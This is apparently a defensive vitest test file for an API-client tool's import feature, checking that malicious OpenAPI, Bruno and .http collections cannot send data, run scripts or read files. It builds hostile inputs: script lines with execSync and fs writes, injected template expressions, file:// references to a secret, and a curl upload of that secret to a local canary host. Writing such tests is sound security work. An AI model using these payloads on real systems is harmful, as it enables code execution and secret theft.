import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import type { CallInput } from '#shared/contract/types';
import { createDraft } from '#shared/model/request-draft';
import { runCairn } from '../cli/environment.test-support';
import { startServices } from './services.test-support';

/** A place in the network that hears of everybody who comes, and a file that only a script, or a program, could make. */
async function canaries() {
  const folder = mkdtempSync(join(tmpdir(), 'cairn-import-canaries-'));
  const came: Socket[] = [];
  const server = createServer((socket) => {
    came.push(socket);
    socket.on('error', () => {});
    socket.end('HTTP/1.1 204 No Content\r\n\r\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => {
    server.close();
    rmSync(folder, { recursive: true, force: true });
  });
  const secret = join(folder, 'secret.txt');
  writeFileSync(secret, 'canary-content');
  return { folder, secret, came, made: join(folder, 'made'), url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

type Canaries = Awaited<ReturnType<typeof canaries>>;
type Documents = Readonly<Record<string, string>>;

/** Everything that a script could try: to ask, to write, to start a program, to leave its sandbox. */
const code = ({ url, made }: Canaries) =>
  [
    `fetch(${JSON.stringify(`${url}/fetch`)});`,
    `bru.sendRequest({ url: ${JSON.stringify(`${url}/send`)} });`,
    `require('fs').writeFileSync(${JSON.stringify(made)}, 'x');`,
    `require('child_process').execSync(${JSON.stringify(`touch ${made}`)});`,
  ].join('\n');

const indented = (text: string, by: number) =>
  text
    .split('\n')
    .map((line) => ' '.repeat(by) + line)
    .join('\n');

const openApi = (all: Canaries): Documents => ({
  'api.json': JSON.stringify({
    openapi: '3.1.0',
    info: {
      title: 'Canary',
      description: `![x](${all.url}/picture) <img src="${all.url}/image">`,
      termsOfService: `${all.url}/terms`,
    },
    externalDocs: { url: `${all.url}/docs` },
    jsonSchemaDialect: `${all.url}/dialect`,
    servers: [{ url: `${all.url}/{{$processEnv HOME}}` }],
    security: [{ oidc: [] }, { oauth: [] }],
    paths: {
      '/far': { $ref: `${all.url}/path.json` },
      '/a': {
        get: {
          summary: `\${require('fs').writeFileSync(${JSON.stringify(all.made)}, 'x')}`,
          parameters: [{ $ref: `${all.url}/parameter.json` }, { $ref: `file://${all.secret}` }],
          responses: {
            200: { $ref: `${all.url}/response.json#/a` },
            201: {
              description: 'Far',
              content: {
                'application/json': {
                  schema: { $ref: `${all.url}/schema.json` },
                  examples: {
                    far: { externalValue: `${all.url}/example.json` },
                    near: { externalValue: `file://${all.secret}` },
                  },
                },
              },
            },
          },
        },
        post: {
          summary: 'Upload',
          requestBody: { content: { 'application/octet-stream': { example: `@${all.secret}` } } },
          callbacks: { done: { [`${all.url}/callback`]: { post: {} } } },
        },
      },
    },
    webhooks: { made: { post: { servers: [{ url: all.url }] } } },
    components: {
      securitySchemes: {
        oidc: { type: 'openIdConnect', openIdConnectUrl: `${all.url}/.well-known/openid-configuration` },
        oauth: {
          type: 'oauth2',
          flows: { clientCredentials: { tokenUrl: `${all.url}/token`, refreshUrl: `${all.url}/refresh`, scopes: {} } },
        },
      },
    },
  }),
});

const bru = (all: Canaries): Documents => ({
  'shop/bruno.json': JSON.stringify({
    version: '1',
    name: 'Canary',
    type: 'collection',
    proxy: { enabled: true, protocol: 'http', hostname: '127.0.0.1', port: Number(new URL(all.url).port) },
    clientCertificates: { enabled: true, certs: [{ domain: '*', certFilePath: all.secret, keyFilePath: all.secret }] },
    scripts: { moduleWhitelist: ['fs', 'child_process'], filesystemAccess: { allow: true } },
    presets: { requestUrl: all.url },
  }),
  'shop/collection.bru': `auth {\n  mode: oauth2\n}\n\nauth:oauth2 {\n  grant_type: client_credentials\n  access_token_url: ${all.url}/token\n  client_id: a\n  client_secret: b\n  scope: c\n}\n\nscript:pre-request {\n${indented(code(all), 2)}\n}\n\ntests {\n${indented(code(all), 2)}\n}\n`,
  'shop/environments/local.bru': `vars {\n  base: ${all.url}\n  home: {{process.env.HOME}}\n}\n`,
  'shop/Upload.bru': `meta {\n  name: Upload\n  type: http\n  seq: 1\n}\n\npost {\n  url: ${all.url}/upload?x={{$processEnv}}\n  body: file\n  auth: inherit\n}\n\nbody:file {\n  file: @file(${all.secret}) @contentType(text/plain)\n}\n\nvars:pre-request {\n  made: {{require('fs').writeFileSync('${all.made}')}}\n}\n\nassert {\n  res.status: eq 200\n}\n\nscript:pre-request {\n${indented(code(all), 2)}\n}\n\nscript:post-response {\n${indented(code(all), 2)}\n}\n\ntests {\n${indented(code(all), 2)}\n}\n\nexample {\n  name: Far\n  response: {\n    body: {\n      type: html\n      content: '''\n        <img src="${all.url}/image">\n      '''\n    }\n  }\n}\n`,
  'shop/Parts.bru': `meta {\n  name: Parts\n  type: http\n  seq: 2\n}\n\npost {\n  url: ${all.url}/parts\n  body: multipartForm\n  auth: none\n}\n\nbody:multipart-form {\n  f: @file(${all.secret})\n}\n`,
});

const brunoYaml = (all: Canaries): Documents => ({
  'bundle.yml': JSON.stringify({
    opencollection: '1.0.0',
    info: { name: 'Canary' },
    config: { proxy: { url: all.url }, environments: [{ name: 'local', variables: [{ name: 'base', value: all.url }] }] },
    request: { scripts: [{ type: 'before-request', code: code(all) }] },
    items: [
      {
        info: { name: 'Upload', type: 'http' },
        http: {
          method: 'POST',
          url: `${all.url}/upload`,
          body: { type: 'file', data: [{ filePath: all.secret, contentType: 'text/plain', selected: true }] },
        },
        runtime: {
          scripts: [
            { type: 'before-request', code: code(all) },
            { type: 'tests', code: code(all) },
          ],
        },
        examples: [{ name: 'Far', response: { body: { type: 'html', data: `<img src="${all.url}/image">` } } }],
      },
    ],
  }),
});

const httpFile = (all: Canaries): Documents => ({
  'canary.http': [
    `@base = ${all.url}`,
    `@home = {{$processEnv HOME}}`,
    `import ${all.secret}`,
    '### Upload',
    `# @import ${all.secret}`,
    `< {%\n${code(all)}\n%}`,
    'POST {{base}}/upload',
    'Content-Type: text/plain',
    '',
    `< ${all.secret}`,
    '',
    `> {%\n${code(all)}\n%}`,
    `> ${all.secret.replace('.txt', '.js')}`,
    `>> ${all.made}`,
    '### Command',
    `curl -k -x ${all.url} -o ${all.made} --location-trusted -T ${all.secret} ${all.url}/curl`,
    '### Socket',
    `WEBSOCKET ${all.url.replace('http', 'ws')}/socket`,
  ].join('\n'),
  'http-client.env.json': JSON.stringify({
    local: { SSLConfiguration: { verifyHostCertificate: false, clientCertificate: all.secret }, token: `${all.url}/{{x}}` },
  }),
});

const formats: readonly (readonly [string, (all: Canaries) => Documents, (name: string) => boolean])[] = [
  ['OpenAPI', openApi, () => true],
  ['a folder of Bruno', bru, () => false],
  ['Bruno’s YAML', brunoYaml, () => true],
  ['an .http file', httpFile, () => true],
];

function put(folder: string, documents: Documents): void {
  for (const [path, text] of Object.entries(documents)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
}

const textBelow = (folder: string): string =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8'))
    .join('\n');

describe('an import of what would like to do harm', () => {
  test.each(formats)(
    '%s: nothing is sent, run, fetched or read, and nothing is switched on',
    async (_name, documentsOf, isSingle) => {
      const all = await canaries();
      const given = join(all.folder, 'given');
      const documents = documentsOf(all);
      put(given, documents);
      const host = startServices(join(all.folder, 'home'));
      const paths = isSingle('') ? Object.keys(documents).map((name) => join(given, name)) : [join(given, 'shop')];
      const from: CallInput<'collection.readImport'>['from'] = { kind: 'paths', paths };
      const importId = crypto.randomUUID();
      await host.call('collection.readImport', { importId, from });
      const root = join(all.folder, 'out');
      await host.call('collection.writeImport', {
        importId,
        into: { kind: 'new', root, name: 'Canary' },
        allowed: [],
        secrets: 'leaveOut',
      });

      // It is opened, listed, looked at and asked about, as a window does.
      const [collection] = await host.call('collection.list', null);
      expect(collection?.problem).toBeNull();
      const requests = collection?.items.filter((item) => item.kind === 'request') ?? [];
      for (const { path } of requests) {
        const { draft } = await host.call('collection.readRequest', { root, path });
        const { options, body } = draft;
        expect([options.verifyTls, options.trustRedirects, options.proxy, options.resolve, options.unixSocket]).toEqual([
          true,
          false,
          '',
          '',
          '',
        ]);
        expect(body.kind === 'file' ? body.path : '').toBe('');
        expect(body.kind === 'multipart' ? body.parts.filter((part) => part.kind === 'file' && part.enabled) : []).toEqual([]);
        await host.call('variables.check', { draft, place: { root, path } });
        const { examples, revision } = await host.call('examples.list', { root, path });
        for (const { at } of examples) await host.call('examples.open', { root, path, at, revision });
        // Scripts wait for whoever allows them: with them in it, nothing is sent.
        if (draft.scripts.before !== '') {
          const { around } = await host.call('scripts.inspect', { draft, place: { root, path } });
          expect(around.length).toBeGreaterThan(0);
          expect(await host.send(draft, { root, path })).toMatchObject({ type: 'failed' });
        }
      }
      expect(requests.length).toBeGreaterThan(0);
      expect(textBelow(root)).not.toContain('canary-content');
      expect(all.came).toEqual([]);
      expect(existsSync(all.made)).toBe(false);
    },
  );

  test.each(formats)(
    '%s: nor by cairn import',
    async (_name, documentsOf, isSingle) => {
      const all = await canaries();
      put(all.folder, documentsOf(all));
      const names = isSingle('') ? Object.keys(documentsOf(all)) : ['shop'];
      const ran = await runCairn(['import', ...names, '--to', 'out', '--json', '--leave-secrets'], { cwd: all.folder });
      expect(ran.code).toBe(0);
      expect(JSON.parse(ran.out)).toMatchObject({ root: join(all.folder, 'out') });
      expect(textBelow(join(all.folder, 'out'))).not.toMatch(/canary-content|verifyTls|trustRedirects/);
      expect(all.came).toEqual([]);
      expect(existsSync(all.made)).toBe(false);
    },
    60_000,
  );

  test('the canaries sing: what is sent on purpose is heard', async () => {
    const all = await canaries();
    const host = startServices(join(all.folder, 'home'));
    expect(await host.send(createDraft(`${all.url}/`))).toMatchObject({ type: 'finished' });
    expect(all.came.length).toBe(1);
  });
});
